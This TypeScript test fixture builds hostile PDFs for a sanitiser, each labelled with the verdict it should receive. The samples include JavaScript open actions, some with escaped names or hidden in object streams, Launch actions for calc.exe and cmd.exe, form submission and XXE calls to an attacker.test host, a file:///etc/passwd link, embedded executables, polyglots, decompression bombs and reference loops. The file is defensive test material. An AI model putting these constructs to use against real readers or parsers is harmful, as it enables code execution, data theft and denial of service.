/** Hostile PDFs, each with the verdict that it must get. All are made here; none comes from elsewhere. */
import { deflateSync } from 'node:zlib';
import { deflated, documentOf, stream, writePdf, type RawObject } from './write-pdf.ts';

export interface Hostile {
  readonly name: string;
  readonly make: () => Buffer;
  readonly verdict: 'disarmed' | 'locked' | 'refused';
  /** A code among what was removed, or of the refusal. */
  readonly code: string;
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const annotation = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>]`;
const onPage = (action: string): Buffer => documentOf({ pages: [{ entries: annotation(action) }] });
const MIB = 1024 * 1024;
const zeros = (mebibytes: number): Buffer => Buffer.alloc(mebibytes * MIB);

const disarmed = (name: string, code: string, make: () => Buffer): Hostile => ({
  name,
  code,
  make,
  verdict: 'disarmed',
});
const refused = (name: string, code: string, make: () => Buffer): Hostile => ({
  name,
  code,
  make,
  verdict: 'refused',
});

const ACTIVE: readonly Hostile[] = [
  disarmed('a script when the document opens', 'JAVASCRIPT', () =>
    documentOf({ catalog: `/OpenAction ${SCRIPT}` }),
  ),
  disarmed('a script behind a reference', 'JAVASCRIPT', () =>
    documentOf({ catalog: '/OpenAction 100 0 R', extra: { 100: SCRIPT } }),
  ),
  disarmed('a script in a stream', 'JAVASCRIPT', () =>
    documentOf({
      catalog: '/OpenAction << /S /JavaScript /JS 100 0 R >>',
      extra: { 100: deflated('app.alert(1)') },
    }),
  ),
  disarmed('a name tree of scripts', 'JAVASCRIPT', () =>
    documentOf({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  ),
  disarmed('names with escapes', 'JAVASCRIPT', () =>
    documentOf({ catalog: '/Open#41ction << /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>' }),
  ),
  disarmed('a script in an object stream', 'JAVASCRIPT', () =>
    documentOf({ catalog: '/OpenAction 100 0 R', extra: { 100: SCRIPT } }, { packed: [1, 2, 100] }),
  ),
  disarmed('a script in an object stream with escapes', 'JAVASCRIPT', () =>
    documentOf(
      {
        catalog: '/OpenAction 100 0 R',
        extra: { 100: '<< /S /#4aava#53cript /J#53 (app.alert\\(1\\)) >>' },
      },
      { packed: [1, 100] },
    ),
  ),
  disarmed('a chain of actions that ends in a script', 'JAVASCRIPT', () =>
    onPage(`<< /S /GoTo /D [10 0 R /Fit] /Next << /S /Named /N /NextPage /Next ${SCRIPT} >> >>`),
  ),
  disarmed('a script of a page', 'ADDITIONAL_ACTIONS', () =>
    documentOf({ pages: [{ entries: `/AA << /O ${SCRIPT} >>` }] }),
  ),
  disarmed('a script of a form field', 'ADDITIONAL_ACTIONS', () =>
    documentOf({
      pages: [{ entries: '/Annots [100 0 R]' }],
      catalog: '/AcroForm << /Fields [100 0 R] >>',
      extra: {
        100: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 99 20] /AA << /K ${SCRIPT} >> >>`,
      },
    }),
  ),
  disarmed('an action of the document when it closes', 'ADDITIONAL_ACTIONS', () =>
    documentOf({ catalog: `/AA << /WC ${SCRIPT} >>` }),
  ),
  disarmed('a program to be launched', 'LAUNCH', () => onPage('<< /S /Launch /F (calc.exe) >>')),
  disarmed('a program to be launched at opening', 'LAUNCH', () =>
    documentOf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
  ),
  disarmed('another file to go to', 'REMOTE_GO_TO', () =>
    onPage('<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
  ),
  disarmed('an embedded file to go to', 'REMOTE_GO_TO', () =>
    onPage('<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>'),
  ),
  disarmed('a thread of another file', 'REMOTE_GO_TO', () =>
    onPage('<< /S /Thread /F (http://attacker.test/x.pdf) /D 0 >>'),
  ),
  disarmed('a form sent away', 'SUBMIT_FORM', () =>
    onPage('<< /S /SubmitForm /F << /FS /URL /F (http://attacker.test/) >> /Flags 4 >>'),
  ),
  disarmed('data of a file taken in', 'IMPORT_DATA', () =>
    onPage('<< /S /ImportData /F (secret.fdf) >>'),
  ),
  disarmed('a link with a script', 'DANGEROUS_LINK', () =>
    onPage('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
  ),
  disarmed('a link to a share', 'DANGEROUS_LINK', () =>
    onPage('<< /S /URI /URI (\\\\\\\\attacker\\\\share) >>'),
  ),
  disarmed('a link to a file', 'DANGEROUS_LINK', () =>
    onPage('<< /S /URI /URI (file:///etc/passwd) >>'),
  ),
  disarmed('a form in XML with entities', 'XFA', () =>
    documentOf({
      catalog: '/AcroForm << /Fields [] /XFA 100 0 R >>',
      extra: {
        100: stream('<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.test/">]><xdp>&e;</xdp>'),
      },
    }),
  ),
  disarmed('a form in XML in parts, in an object stream', 'XFA', () =>
    documentOf(
      {
        catalog: '/AcroForm 101 0 R',
        extra: {
          100: deflated('<template><script contentType="application/x-formcalc"/></template>'),
          101: '<< /Fields [] /XFA [(template) 100 0 R] >>',
        },
      },
      { packed: [1, 101] },
    ),
  ),
  disarmed('a file carried along', 'EMBEDDED_FILE', () =>
    documentOf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 101 0 R] >> >>',
      extra: {
        100: stream('MZ', '/Type /EmbeddedFile'),
        101: '<< /Type /Filespec /F (a.exe) /EF << /F 100 0 R >> >>',
      },
    }),
  ),
  disarmed('a file pinned to a page', 'EMBEDDED_FILE', () =>
    documentOf({
      pages: [{ entries: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 101 0 R >>]' }],
      extra: {
        100: deflated('MZ', '/Type /EmbeddedFile'),
        101: '<< /Type /Filespec /F (a.exe) /EF << /F 100 0 R >> >>',
      },
    }),
  ),
  disarmed('a portfolio', 'EMBEDDED_FILE', () =>
    documentOf({ catalog: '/Collection << /Type /Collection /View /T >>' }),
  ),
  disarmed('rich media', 'RICH_MEDIA', () =>
    documentOf({
      pages: [{ entries: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }],
    }),
  ),
  disarmed('a film', 'RICH_MEDIA', () =>
    documentOf({
      pages: [
        { entries: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (x.avi) >> >>]' },
      ],
    }),
  ),
  disarmed('a rendition with a script', 'RICH_MEDIA', () =>
    onPage('<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>'),
  ),
  disarmed('content outside of the file', 'EXTERNAL_CONTENT', () =>
    documentOf({
      pages: [{ content: stream('', '/F (http://attacker.test/x) /FFilter /FlateDecode') }],
    }),
  ),
  disarmed('a script that only an older table names', 'HIDDEN_CONTENT', () => {
    const first = documentOf({ catalog: `/OpenAction ${SCRIPT}` }).toString('latin1');
    const table = Number(/startxref\n(\d+)/.exec(first)?.[1]);
    const at = first.length + 1;
    const second =
      `\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n1 1\n${String(at).padStart(10, '0')} 00000 n \n` +
      `trailer\n<< /Size 12 /Root 1 0 R /Prev ${table} >>\nstartxref\n`;
    const start = at + second.indexOf('xref') - 1;
    return Buffer.from(`${first}${second}${start}\n%%EOF\n`, 'latin1');
  }),
];

const ENVELOPES: readonly Hostile[] = [
  refused('nothing but text', 'NOT_A_PDF', () => Buffer.from('hello, world')),
  refused('a header that comes late', 'NOT_A_PDF', () =>
    Buffer.concat([Buffer.from('\n\n'), documentOf({})]),
  ),
  refused('a program before the document', 'NOT_A_PDF', () =>
    Buffer.concat([Buffer.from('MZ\u0090\u0000', 'latin1'), documentOf({})]),
  ),
  refused('a picture before the document', 'NOT_A_PDF', () =>
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), documentOf({})]),
  ),
  refused('an archive behind the document', 'POLYGLOT', () =>
    documentOf({}, { tail: `PK\u0005\u0006${'\0'.repeat(18)}` }),
  ),
  refused('an archive in front of the objects', 'POLYGLOT', () =>
    documentOf({}, { header: '%PDF-1.7\nPK\u0003\u0004\n' }),
  ),
  refused('a web page in front of the objects', 'POLYGLOT', () =>
    documentOf({}, { header: '%PDF-1.7\n%<html><script>alert(1)</script>\n' }),
  ),
  refused('something behind the document', 'TRAILING_DATA', () =>
    documentOf({}, { tail: 'MZ\u0090 and so on' }),
  ),
  refused('a file cut in the middle', 'TRUNCATED', () => {
    const whole = documentOf({ pages: [{}, {}, {}] });
    return whole.subarray(0, whole.length / 2);
  }),
  refused('noise behind a header', 'UNREADABLE', () =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      Buffer.from(Array.from({ length: 5_000 }, (_, at) => (at * 7919) % 251)),
      Buffer.from('\n%%EOF\n'),
    ]),
  ),
];

const raw = (objects: Readonly<Record<number, RawObject>>): Buffer =>
  writePdf({
    objects: new Map(Object.entries(objects).map(([key, value]) => [Number(key), value])),
  });
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';

const STRUCTURES: readonly Hostile[] = [
  refused('a tree of pages in a circle', 'LOOP', () =>
    raw({
      1: CATALOG,
      2: '<< /Type /Pages /Count 2 /Kids [3 0 R 4 0 R] >>',
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      4: '<< /Type /Pages /Count 1 /Parent 2 0 R /Kids [2 0 R] >>',
    }),
  ),
  refused('an outline in a circle', 'LOOP', () =>
    documentOf({
      catalog: '/Outlines 100 0 R',
      extra: {
        100: '<< /First 101 0 R /Last 101 0 R >>',
        101: '<< /Title (a) /Parent 100 0 R /Next 102 0 R >>',
        102: '<< /Title (b) /Parent 100 0 R /Next 101 0 R >>',
      },
    }),
  ),
  refused('a drawing that draws itself', 'LOOP', () =>
    documentOf({
      extra: {
        100: stream(
          '/X Do',
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 100 0 R >> >>',
        ),
      },
    }),
  ),
  refused('a document without pages', 'NO_PAGES', () =>
    raw({ 1: CATALOG, 2: '<< /Type /Pages /Count 0 /Kids [] >>' }),
  ),
  refused('a hundred thousand pages', 'TOO_MANY_PAGES', () =>
    raw({
      1: CATALOG,
      2: `<< /Type /Pages /Count 100000 /MediaBox [0 0 9 9] /Kids [${'3 0 R '.repeat(100_000)}] >>`,
      3: '<< /Type /Page /Parent 2 0 R >>',
    }),
  ),
  refused('more objects than a document has', 'TOO_MANY_OBJECTS', () =>
    documentOf({
      extra: Object.fromEntries(Array.from({ length: 100_500 }, (_, at) => [100 + at, 'null'])),
    }),
  ),
  refused('a page of a thousand kilometres', 'PAGE_TOO_LARGE', () =>
    documentOf({ pages: [{ entries: '/MediaBox [0 0 3000000000 3000000000]' }] }),
  ),
  refused('arrays within arrays', 'TOO_DEEP', () =>
    documentOf({ extra: { 100: `${'['.repeat(300)}${']'.repeat(300)}` }, catalog: '/X 100 0 R' }),
  ),
  refused('a bomb of deflate', 'INFLATES_TOO_FAR', () =>
    documentOf({ pages: [{ content: deflated(zeros(200)) }] }),
  ),
  refused('a bomb within a bomb', 'INFLATES_TOO_FAR', () =>
    documentOf({
      pages: [
        {
          content: {
            dict: '/Filter [/FlateDecode /FlateDecode]',
            bytes: deflateSync(deflateSync(zeros(300))),
          },
        },
      ],
    }),
  ),
  refused('a bomb in hexadecimal', 'INFLATES_TOO_FAR', () =>
    documentOf({
      pages: [
        {
          content: {
            dict: '/Filter [/ASCIIHexDecode /FlateDecode]',
            bytes: Buffer.from(`${deflateSync(zeros(200)).toString('hex')}>`),
          },
        },
      ],
    }),
  ),
  refused('a picture that is larger than it says', 'INFLATES_TOO_FAR', () =>
    documentOf({
      extra: {
        100: deflated(zeros(64), '/Type /XObject /Subtype /Image /Width 10 /Height 10'),
      },
    }),
  ),
  refused('a bomb in an object stream', 'INFLATES_TOO_FAR', () => {
    const bomb = deflateSync(Buffer.concat([Buffer.from('100 0 '), zeros(600)]));
    return raw({
      1: CATALOG,
      2: '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      4: { dict: '/Type /ObjStm /N 1 /First 6 /Filter /FlateDecode', bytes: bomb },
    });
  }),
  refused('a table of the size of a continent', 'UNREADABLE', () => {
    const table = deflateSync(zeros(8));
    const head = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n';
    const rows = '/Size 2147483647 /W [1 1 1] /Index [0 2147483647] /Filter /FlateDecode';
    const dict = `<< /Type /XRef /Root 1 0 R ${rows} /Length ${table.length} >>`;
    return Buffer.concat([
      Buffer.from(`${head}2 0 obj\n${dict}\nstream\n`),
      table,
      Buffer.from(`\nendstream\nendobj\nstartxref\n${head.length}\n%%EOF\n`),
    ]);
  }),
];

export const HOSTILE: readonly Hostile[] = [...ACTIVE, ...ENVELOPES, ...STRUCTURES];
